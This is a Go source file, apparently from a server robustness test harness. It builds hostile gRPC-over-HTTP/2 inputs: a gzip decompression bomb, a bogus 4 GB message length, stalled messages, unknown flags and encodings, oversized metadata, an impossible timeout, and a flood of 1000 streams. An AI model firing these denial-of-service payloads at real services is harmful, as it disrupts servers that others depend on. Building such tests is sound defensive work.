package attacks

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	_ "google.golang.org/grpc/encoding/gzip" // as many programs have it
)

// message is one of gRPC's: a flag, a length, and bytes.
func message(flag byte, length int, b []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{flag}, uint32(length)), b...)
}

// bomb is n bytes of zeros, compressed.
func bomb(n int) []byte {
	var b bytes.Buffer
	z, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	_, _ = z.Write(make([]byte, n))
	_ = z.Close()
	return b.Bytes()
}

func grpcAttacks() []attack {
	// call begins one, with more in its header.
	call := func(p *peer, f *http2.Framer, id uint32, more ...hpack.HeaderField) {
		b := p.head("")
		must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: append(b, block(more...)...), EndHeaders: true}))
	}
	one := func(more []hpack.HeaderField, data ...[]byte) func(p *peer) {
		return func(p *peer) {
			f := p.frames()
			call(p, f, 1, more...)
			for _, d := range data {
				must(f.WriteData(1, false, d))
			}
		}
	}
	all := []attack{
		{name: "announces four gigabytes", do: one(nil, message(0, 1<<32-1, []byte("xxx")))},
		{name: "stalls within a message", do: one(nil, message(0, 1000, []byte("xxx")))},
		{name: "stalls within a message's length", do: one(nil, []byte{0, 0})},
		{name: "sends a compressed bomb", do: func(p *peer) {
			b := bomb(32 << 20)
			one([]hpack.HeaderField{{Name: "grpc-encoding", Value: "gzip"}}, chunks(message(1, len(b), b))...)(p)
		}},
		{name: "sends what is not compressed as such", do: one(nil, message(1, 3, []byte("xxx")))},
		{name: "sends flags that nobody knows", do: one(nil, message(77, 3, []byte("xxx")))},
		{name: "sends what is no message", do: one(nil, message(0, 8, bytes.Repeat([]byte{0xff}, 8)))},
		{name: "names an encoding that nobody knows", do: one([]hpack.HeaderField{{Name: "grpc-encoding", Value: "bomb"}}, message(1, 3, []byte("xxx")))},
		{name: "has timeouts that can't be", do: one([]hpack.HeaderField{{Name: "grpc-timeout", Value: "99999999999999H"}})},
		{name: "has metadata that is too large", do: one([]hpack.HeaderField{{Name: "x", Value: strings.Repeat("y", 12<<10)}, {Name: "z", Value: strings.Repeat("y", 12<<10)}})},
		{name: "begins messages on very many streams", do: func(p *peer) {
			f := p.frames()
			again(1000, func(i int) {
				call(p, f, uint32(2*i+1))
				must(f.WriteData(uint32(2*i+1), false, message(0, 4<<20, nil)))
			})
			p.pause()
		}},
	}
	for i := range all {
		all[i].on = "grpc"
	}
	return all
}

// chunks cuts b into what fits into a frame, and 60 KiB of it, which is what the window takes at first.
func chunks(b []byte) [][]byte {
	var all [][]byte
	for b = b[:min(len(b), 60<<10)]; len(b) > 0; {
		n := min(len(b), 16<<10)
		all, b = append(all, b[:n]), b[n:]
	}
	return all
}
